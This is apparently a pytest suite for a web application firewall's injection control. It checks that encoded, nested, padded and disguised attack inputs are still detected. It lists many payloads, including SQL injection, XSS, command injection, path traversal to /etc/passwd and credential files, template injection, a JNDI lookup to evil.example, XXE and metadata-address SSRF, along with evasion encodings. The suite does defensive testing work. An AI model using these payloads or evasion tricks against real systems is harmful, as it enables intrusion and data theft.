"""Stories of attacks that hide from whoever looks for them, told to the gate as requests."""

from __future__ import annotations

import base64
import gzip
import json
import tracemalloc
from html import escape
from urllib.parse import quote

import pytest

from injection_harness import CLIMB, COMMAND, HEADERS, SQL, XSS, as_json, gate, post, query, request, said, verdict
from sallygate.controls.injection import InjectionControl
from sallygate.model.request import EMPTY_BODY, Body
from sallygate.parsing.edits import edit_body

ATTACKS = {"sql": SQL, "xss": XSS, "command": COMMAND, "traversal": CLIMB}
every = pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))


def percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


@every
def test_encoded_so_often_that_only_the_application_gets_to_the_bottom(attack: str) -> None:
    text = percent(attack)
    for _ in range(8):
        assert said(request("/", "q=" + text)) != []
        text = text.replace("%", "%25")


@every
def test_in_a_mixture_of_encodings(attack: str) -> None:
    entities = "".join(f"&#{ord(char)};" for char in attack)
    escapes = "".join(f"\\u{ord(char):04x}" for char in attack)
    for text in (
        entities,
        escapes,
        percent(entities),
        percent(escapes),
        "".join(f"\\x{ord(char):02x}" for char in attack),
    ):
        assert said(query(text)) != [], text[:40]
        assert said(as_json({"a": text})) != []


@every
def test_in_base64_of_either_alphabet_with_or_without_padding(attack: str) -> None:
    for text in (
        base64.b64encode(attack.encode()).decode(),
        base64.urlsafe_b64encode(attack.encode()).decode().rstrip("="),
    ):
        assert said(query(text)) != []
        assert said(request("/" + quote(text, safe="") + "/x")) != []
        assert said(request("/", "", (b"cookie", f"a={text}".encode()))) != []


@every
def test_behind_more_text_than_anybody_reads(attack: str) -> None:
    for padding in (
        "x" * 9000 + " ",
        "lorem ipsum dolor sit amet " * 3000,
        "don't " * 2000,
        "a=1&b=2; " * 2000,
        "<b>x</b> " * 1500,
    ):
        assert said(as_json({"a": padding + attack})) != [], padding[:10]


@every
def test_after_a_hundred_thousand_honest_fields_or_very_deep(attack: str) -> None:
    assert said(as_json({**{f"f{n}": n for n in range(10_000)}, "z": attack})) != []
    tree: object = attack
    for _ in range(14):
        tree = [{"a": tree}]
    assert said(as_json(tree)) != []


@every
def test_in_json_within_json_within_json(attack: str) -> None:
    text = attack
    for _ in range(3):
        text = json.dumps({"a": text})
        assert said(query(text)) != []


@every
def test_under_a_media_type_nobody_looks_into(attack: str) -> None:
    for media in (
        "image/png",
        "application/octet-stream",
        "application/x-anything",
        "text/csv",
        "video/mp4",
        "application/pdf",
        "",
    ):
        assert said(post(json.dumps({"a": attack}), media)) != [], media
        assert said(post(f"a=1&b={quote(attack)}", media)) != [], media


@every
def test_in_a_body_that_is_not_what_it_is_called(attack: str) -> None:
    assert said(post(f'{{"a": {json.dumps(attack)}, }}')) != [], "broken JSON that lenient parsers take"
    assert said(post(f"{{a: '{attack.replace(chr(39), chr(92) + chr(39))}'}}")) != []
    assert said(post(json.dumps({"a": attack}), "application/x-www-form-urlencoded")) != []
    assert (
        said(
            post(gzip.compress(json.dumps({"a": attack}).encode()), "application/json", (b"content-encoding", b"gzip"))
        )
        != []
    )


@every
def test_as_a_name_instead_of_a_value(attack: str) -> None:
    assert said(request("/", quote(attack, safe="") + "=1")) != []
    assert said(as_json({attack: 1})) != []
    assert said(post(quote(attack, safe="") + "=1", "application/x-www-form-urlencoded")) != []
    assert said(request("/", "", (b"cookie", quote(attack, safe="").encode() + b"=1"))) != []


@every
def test_in_a_multipart_field_in_its_name_or_in_the_name_of_its_file(attack: str) -> None:
    media = "multipart/form-data; boundary=x"
    field = attack.replace('"', "%22")
    for head, data in (('name="a"', attack), (f'name="{field}"', "1"), (f'name="a"; filename="{field}"', "1")):
        found = said(post(f"--x\r\nContent-Disposition: form-data; {head}\r\n\r\n{data}\r\n--x--\r\n", media))
        assert found != [], head


@every
def test_in_xml(attack: str) -> None:
    from html import escape

    for text in (
        f"<a>{escape(attack)}</a>",
        f'<a b="{escape(attack)}"/>',
        f"<a><![CDATA[{attack}]]></a>",
        f"<a><!-- x --><b>{escape(attack)}</b></a>",
    ):
        assert said(post(text, "application/xml")) != [], text


@every
def test_full_width_or_with_invisible_characters(attack: str) -> None:
    wide = "".join(chr(ord(char) + 0xFEE0) if char in "<>'/.;()=" else char for char in attack)
    assert said(as_json({"a": wide})) != []
    if "etc" not in attack:
        hidden = attack[:4] + "\u200b" + attack[4:]
        assert said(as_json({"a": hidden})) != []


SMALL = [
    "' or 1=1--", "admin'--", "1 or sleep(5)", "1;select pg_sleep(5)", "'||(select 1)||'", "1'/**/or/**/'1'='1", "/*!50000union*/ select 1",
    "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", '" autofocus onfocus=alert(1) x="', "'-alert(1)-'", "<ScRiPt>x</sCrIpT>",
    "|id", "`id`", "$(id)", "&& whoami", "a;c''at /etc/passwd", "() { :;}; echo x", "{cat,/etc/passwd}", "cat$IFS/etc/passwd",
    "..%2f..%2fetc/passwd", "....//....//etc/passwd", "/etc/passwd", "c:\\windows\\win.ini", "php://filter/convert.base64-encode/resource=x", "..;/..;/x",
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__}}", "${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x}",
    "*)(uid=*))(|(uid=*", '{"$gt": ""}', "'; return true; //", "'] | //user/*[contains(*,'", "a\r\nSet-Cookie: x=1", "x\nBcc: a@b.example\n",
    "http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://[::ffff:a9fe:a9fe]/", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    'O:8:"stdClass":1:{s:1:"a";i:1;}', "__proto__[admin]=1", "<?php system('id'); ?>", "require('child_process')", "__import__('os').system('id')",
    "<!--#exec cmd=\"id\"-->", "%{(#a=@java.lang.Runtime@getRuntime())}", "query { __schema { types { name } } }", "system('id')",
]  # fmt: skip


@pytest.mark.parametrize("value", SMALL)
def test_one_of_each(value: str) -> None:
    assert said(query(value)) != [] and said(as_json({"a": value})) != []


def test_how_many_there_are() -> None:
    assert len(SMALL) == 54


def test_a_decoy_that_spends_the_work_does_not_open_the_gate() -> None:
    for decoy in ("' or ", "<a b=c>", "../", "$(x ", "{{a.b", "&lt;", "%253c", "/etc/x ", "*)(a="):
        assert said(as_json({"a": decoy * (200_000 // len(decoy)), "z": SQL})) != [], decoy


def test_an_exclusion_for_one_field_is_no_way_in_for_another() -> None:
    section = "exclude: [{family: sql, field: 'body:/text'}]"
    assert said(as_json({"text": SQL}), section) == []
    for tree in ({"text": {"x": SQL}}, {"Text": SQL}, {"text ": SQL}, {"a": {"text": SQL}}, [{"text": SQL}]):
        assert said(as_json(tree), section) != [], tree
    assert said(as_json({"text": XSS}), section) != []


def test_stripping_does_not_put_an_attack_together() -> None:
    control = gate("act: strip, strip: ['query:q']").gate.engine.controls.get(InjectionControl)
    assert control is not None
    passed = 0
    for value in (
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "..././..././x",
        "un<b onclick=x()>ion sel<b onclick=x()>ect a from b",
        'jav"ascript:alert`1`',
    ):
        head = gate().gate.reader.read(
            method="GET", scheme="https", raw_path=b"/", raw_query=b"q=" + quote(value, safe="").encode(), headers=HEADERS,
            http_version="1.1", peer="192.0.2.7", request_id="0", now=0.0,
        )  # fmt: skip
        findings, edits = control.judge("", head, EMPTY_BODY)
        assert findings
        if edits:
            (edit,) = edits
            passed += 1
            assert edit.at == "query" and edit.replacement is not None
            assert not set(b"<>\"'`;(){}") & set(edit.replacement)
            assert said(request("/", edit.replacement.decode())) == []
    assert passed >= 2


class TestEncodedBodies:
    """A body an application may read, written so that the gate would not."""

    @pytest.mark.parametrize("media", ["application/json", "text/plain", ""])
    def test_control_characters_do_not_make_text_binary(self, media: str) -> None:
        assert said(post(json.dumps({"a": SQL}).encode() + b"\x01" * 40, media)) != []
        assert said(post(b"\x01\xff" * 40 + SQL.encode(), media)) != []

    @pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
    def test_wide_characters(self, codec: str) -> None:
        assert said(post(json.dumps({"a": SQL}).encode(codec))) != []
        assert said(post(SQL.encode(codec), "text/plain")) != []
        xml = f"<?xml version='1.0' encoding='{codec}'?><a>{SQL}</a>"
        assert said(post(xml.encode(codec), "application/xml")) != []

    def test_a_member_written_twice(self) -> None:
        twice = f'{{"a":"{SQL}","a":"x"}}'
        assert said(post(twice)) != []
        assert said(as_json({"a": twice})) != []
        assert said(post(twice, "text/plain")) != []
        assert said(post(f'{{"a":"{COMMAND}","a":"x"}}')) != []

    def test_a_command_that_is_a_whole_leaf_of_a_document_in_a_text(self) -> None:
        inner = json.dumps({"filter": {"by": "which netcat"}})
        assert said(post("c=" + quote(inner), "application/x-www-form-urlencoded")) != []
        assert said(as_json({"a": json.dumps({"b": inner})})) != []
        assert said(post(inner, "image/png")) != []

    def test_json_that_only_some_readers_read(self) -> None:
        leaf = json.dumps("x; id")
        for text in (f'{{"n":NaN,"a":{leaf}}}', f'\ufeff{{"a":{leaf}}}', f'{{"b":"\\ud800","a":{leaf}}}', f'[{"9" * 5000},{leaf}]',
                     "[" * 40 + leaf + "]" * 40, "[" * 20_000 + leaf + "]" * 20_000):  # fmt: skip
            assert said(post(text)) != [], text[:30]

    def test_base64_wherever_a_value_can_stand(self) -> None:
        spelled = base64.b64encode(SQL.encode()).decode()
        for cookie in (f"x=1;a={spelled}", f'a="{spelled}"', "a=" + quote(spelled + "=", safe="")):
            assert said(request("/", "", (b"cookie", cookie.encode()))) != [], cookie
        assert said(query(quote(spelled, safe=""))) != []
        assert said(as_json({"a": json.dumps({"b": spelled})})) != []
        assert said(post("a=" + spelled, "text/plain")) != []

    def test_decoys_that_use_up_the_forms(self) -> None:
        decoy = "&amp;amp;amp;amp;amp;\\x5cx5cx5cx5cx41 &amp;amp;\uff06amp;\uff05252525 %26amp;amp;%5cx5c%EF%BC%85"
        text = decoy + SQL
        for _ in range(5):
            text = quote(text, safe="")
            assert said(as_json({"a": text})) != []


def test_a_letter_whose_lower_case_is_two() -> None:
    doctype = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
    assert "xxe body:" in said(post("\u0130" + doctype, "application/xml"))
    for attack in (
        "' UNION SELECT A,B FROM USERS-- ",
        "<SCRIPT>alert(1)</SCRIPT>",
        "; CAT /ETC/PASSWD",
        "/../../ETC/PASSWD",
    ):
        assert said(as_json({"a": "\u0130" + attack})) != []


class TestMemory:
    def test_a_long_name_above_many_items_is_not_written_out_for_each(self) -> None:
        body = as_json({"k" * 110_000: [1] * 35_000 + ["; ls -la"]})
        gate()  # so that what is measured is the request
        tracemalloc.start()
        try:
            assert said(body) == ["command body:/" + "k" * 154]
            assert tracemalloc.get_traced_memory()[1] < 32 << 20
        finally:
            tracemalloc.stop()


class TestStripping:
    """A sender chooses how a field is written: never so that stripping fails."""

    @pytest.mark.parametrize("prefix", ["x=%zz&", "x=%e9&", "x=%00&"])
    def test_forms_that_cannot_be_read_in_one_way(self, prefix: str) -> None:
        form = post(prefix + "a=" + quote(SQL), "application/x-www-form-urlencoded")
        decision = verdict(form, "act: strip, strip: ['body:/*']").decision
        assert ([finding.code for finding in decision.findings], decision.status) == (["body.form"], 400)

    def test_documents_within_texts(self) -> None:
        inner = as_json({"a": json.dumps({"x": SQL})})
        assert verdict(inner, "act: strip, strip: ['body:/*']").status == 403
        deep = as_json({"a" * 300: SQL})
        assert verdict(deep, "act: strip, strip: ['body:/*']").status == 403

    def test_numbers_keep_their_digits(self) -> None:
        control = gate("act: strip, strip: ['body:/a']").gate.engine.controls.get(InjectionControl)
        assert control is not None
        raw = b'{"a":"x\' or 1=1--","b":1.10,"c":1.0000000000000000001}'
        head = gate().gate.reader.read(
            method="POST", scheme="https", raw_path=b"/", raw_query=b"", headers=HEADERS, http_version="1.1",
            peer="192.0.2.7", request_id="0", now=0.0,
        )  # fmt: skip
        body = Body(raw, "json", "application/json", json.loads(raw))
        findings, edits = control.judge("", head, body)
        assert findings and edits
        assert b'"b":1.10,"c":1.0000000000000000001' in edit_body(body, edits).raw


def test_a_name_the_sender_chose_cannot_drive_a_terminal() -> None:
    findings = verdict(request("/", "a%1b%5D0;x%07=" + quote(SQL))).decision.findings
    assert findings and all(finding.where.isprintable() for finding in findings)


def test_brackets_in_an_exclusion_are_brackets() -> None:
    section = "exclude: [{family: sql, field: 'query:filter[name]', path: '/*'}]"
    assert said(query(SQL, "filter[name]"), section) == []
    assert said(query(SQL, "filtern"), section) != []


def test_files_are_not_counted_as_what_is_inspected() -> None:
    picture = bytes(range(256)) * 1200
    assert said(post(picture, "image/png")) == []
    parts = (
        b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--b\r\nContent-Disposition: form-data; name="f"; '
        b'filename="a.png"\r\nContent-Type: image/png\r\n\r\n' + picture + b"\r\n--b--\r\n"
    )
    assert said(post(parts, "multipart/form-data; boundary=b")) == []
    assert (
        said(
            post(
                parts.replace(b"\r\n\r\nx\r\n", b"\r\n\r\n" + SQL.encode() + b"\r\n"), "multipart/form-data; boundary=b"
            )
        )
        != []
    )


@pytest.mark.parametrize(
    "text",
    [
        "/proc/self/environ",
        "/proc/thread-self/environ",
        "/dev/stdin",
        "/run/secrets/db",
        "~/.git-credentials",
        "page.php\0.jpg",
        "web.config::$DATA",
        r"\\.\C:\x",
        "/WEB-INF./web.xml",
        "%2e%2e%2fx",
        "%c0%ae/x",
        "/...",
        r".\/\.\x",
        "..%0a/x",
    ],
)
def test_a_path_without_one_honest_step(text: str) -> None:
    assert said(query(text)) != []
    assert said(as_json({"file": text})) != []
    assert said(post(quote(text, safe="") + "=1", "application/x-www-form-urlencoded")) != []
    assert said(request("/", "", (b"x-file", text.replace("\0", "%00").encode()))) != []


@pytest.mark.parametrize("text", [";ps aux", "|echo x", "w'h'o'am'i", "who$@ami", "& ping evil.example", "u^na^me"])
def test_a_command_that_looks_like_words(text: str) -> None:
    assert said(query(text)) != []
    assert said(as_json({"name": text})) != []
    assert said(request("/" + quote(text, safe=""))) != []


@pytest.mark.parametrize(
    "tag", ["<IMG SRC=x ONERROR={}>", '<a b="{}"/>', "<svg onload='{}'/>", "<r><![CDATA[<b onfocus={}>]]></r>"]
)
def test_a_page_sent_as_xml(tag: str) -> None:
    for script in ("go(1)", "document.cookie=1", "top.go()"):
        text = tag.format(script if "b=" not in tag else f"javascript:{script}")
        parts = f'--x\r\nContent-Disposition: form-data; name="a"; filename="a.svg"\r\nContent-Type: image/svg+xml\r\n\r\n{text}\r\n--x--\r\n'
        for sent in (
            post(text, "application/xml"),
            post(text, "text/xml"),
            post(parts, "multipart/form-data; boundary=x"),
        ):
            assert said(sent) != [], (text, sent.headers)


def test_behind_a_beginning_that_leads_the_prefilter_astray() -> None:
    """Matches the automaton lost where another beginning of the same expression stood shortly before."""
    for text in ('<a b=="jar:x">', "<a b = 'netdoc:/x'>"):
        assert said(request("/search/search", "q=" + quote(text, safe=""))) != []
    assert said(request("/api/v1/items", "id=42&name=" + quote(r"\%2e%2fx", safe=""))) != []


@every
@pytest.mark.parametrize("name", [b"referer", b"origin"])
def test_behind_the_address_of_a_page_that_is_let_through(name: bytes, attack: str) -> None:
    for host in ("localhost", "localhost:3000", "10.0.0.7", "[::1]:80"):
        for text in (attack, percent(attack)):
            assert said(request("/", "", (name, f"http://{host}/?q={text}".encode()))) != []


@every
def test_in_a_field_that_begins_like_a_document(attack: str) -> None:
    for begins in ('<?xml version="1.0"?>', " <?XML?>", "<!DOCTYPE html>"):
        body = f'--x\r\nContent-Disposition: form-data; name="c"\r\n\r\n{begins}{attack}\r\n--x--\r\n'
        assert said(post(body, "multipart/form-data; boundary=x")) != []


@pytest.mark.parametrize(("text", "zeros"), [("{{7*7}}", 600), ("' or 1=1-- ", 1200), (";cat /etc/passwd", 1200)])
def test_spelled_so_long_that_no_window_holds_it(text: str, zeros: int) -> None:
    """The short values before it move it over every border."""
    spelled = "".join(f"&#x{'0' * zeros}{ord(char):x};" for char in text)
    for before in range(300, 1300, 50):
        sent = {"z": [f"t{n}" for n in range(300)], "p": spelled, "a": [f"w{n} d" for n in range(before)]}
        assert said(as_json(sent)) != [], before


@every
def test_among_thousands_of_short_values_in_a_document_in_a_string(attack: str) -> None:
    for row in (
        [*["ab"] * 9000, attack],
        {**{f"ab{n}": "x y" for n in range(5000)}, "z": attack},
        [{attack: 1}, *["ab"] * 9000],
    ):
        assert said(as_json({"a": json.dumps(row)})) != []
        assert said(as_json(row)) != []
    pairs = "&".join([*["a=b"] * 9000, f"z={quote(attack, safe='')}", *["c=d"] * 9000])
    assert said(post(pairs, "application/x-www-form-urlencoded")) != []


def test_cookies_that_were_sent_as_a_name_before() -> None:
    """What was clean as a name, or as another header, is not for that clean as cookies, from which more is read."""
    cookies = "a=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    for mark in ("", "\x1c", "\x1d\x1e", "cookie:"):
        assert said(as_json({mark + cookies: 1})) == []
        assert said(request("/", "", (b"x-note", cookies.encode()))) == []
        assert said(request("/", "", (b"cookie", cookies.encode()))) == ["xss cookie:a"]


def test_credentials_that_were_sent_as_something_else_before() -> None:
    """From a field of credentials more is read than from the same text in another header, a name or the cookies."""
    user = base64.b64encode(b"x' or 1=1-- :y").decode()
    for credentials in (f"Basic {user}", f"Bearer eyJhbGciOiJub25lIn0.{_segment({'sub': SQL})}.c2ln"):
        for name in (b"x-note", b"x-other", b"cookie"):
            said(request("/", "", (name, credentials.encode())))
        said(as_json({credentials: 1}))
        assert said(request("/", "", (b"authorization", credentials.encode()))) != []


def _segment(claims: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")


@every
def test_in_a_part_of_a_token(attack: str) -> None:
    head, honest = _segment({"alg": "HS256", "kid": "1"}), _segment({"sub": "jo"})
    for token in (
        f"{_segment({'alg': 'HS256', 'kid': attack})}.{honest}.c2ln",
        f"{head}.{_segment({'sub': attack})}.c2ln",
    ):
        assert said(request("/", "", (b"authorization", f"Bearer {token}".encode()))) != []
        assert said(request("/", "", (b"cookie", f"a=b; session={token}".encode()))) != []
        assert said(query(token)) != []
        assert said(as_json({"token": token})) != []
    assert said(request("/", "", (b"authorization", f"Bearer {head}.{honest}.c2ln".encode()))) == []


@pytest.mark.parametrize("attack", ["1 or 1=1", "|| ", "http://0x7f.1/", "' or 1=1--"])
def test_in_a_piece_of_a_text(attack: str) -> None:
    """What only counts as a whole value is a whole value there."""
    assert said(post(f"<a><b>{escape(attack)}</b></a>", "application/xml")) != []
    assert (
        said(post(f"--b\r\nContent-Type: text/plain\r\n\r\n{attack}\r\n--b--\r\n", "multipart/mixed; boundary=b")) != []
    )
    form = f'--X\r\nContent-Disposition: form-data; name="a"; filename=""\r\n\r\n{attack}\r\n--X--\r\n'
    assert said(post(form, "multipart/form-data; boundary=X")) != []
    assert said(post(json.dumps({"query": f"query {{ user(id: {json.dumps(attack)}) {{ name }} }}"}))) != []


def test_a_header_that_calls_itself_a_digest() -> None:
    assert said(request("/", "", (b"x-request-id", b"digest' or 1=1--"))) != []
    honest = b'Digest username="o\'brien", realm="a", nonce="b", uri="/", response="c"'
    assert said(request("/", "", (b"authorization", honest))) == []


def test_a_file_without_a_name_is_inspected_and_counted() -> None:
    """Some take it for a field."""
    field = '--X\r\nContent-Disposition: form-data; name="a"; filename=""\r\n\r\n{}\r\n--X--\r\n'
    assert said(post(field.format(SQL), "multipart/form-data; boundary=X")) != []
    assert said(post(field.format("a" * 4_300_000), "multipart/form-data; boundary=X")) == ["size body:"]


@pytest.mark.parametrize("name", ["accept", "x-request-id", "sec-ch-ua", "connection"])
def test_in_a_header_nobody_reads(name: str) -> None:
    for attack in ("${jndi:ldap://evil.example/a}", "() { :;}; /bin/id"):
        assert said(request("/", "", (name.encode(), attack.encode()))) != []
    for attack in ("' or 1=1--", "../../../etc/passwd{{") if name in ("accept", "x-request-id") else ():
        assert said(request("/", "", (name.encode(), attack.encode()))) != []


@pytest.mark.parametrize(
    "attack", ["%27%20or%20%271%27%3D%271", '{"a":"whoami"}', '{"a":"%27 or %271%27=%271"}', "whoami"]
)
def test_a_copy_that_is_clean_where_it_stands_clears_no_other(attack: str) -> None:
    """Texts are judged once a request: one after the mark between texts, or too deep in documents, is another text."""
    deep = attack
    for _ in range(3):
        deep = json.dumps({"p": deep})
    assert said(as_json({"a": f"\x1e{attack}", "b": deep, "z": attack})) != []
    assert any("/z" in one for one in said(as_json({"y": f"\x1e{attack}", "z": attack})))
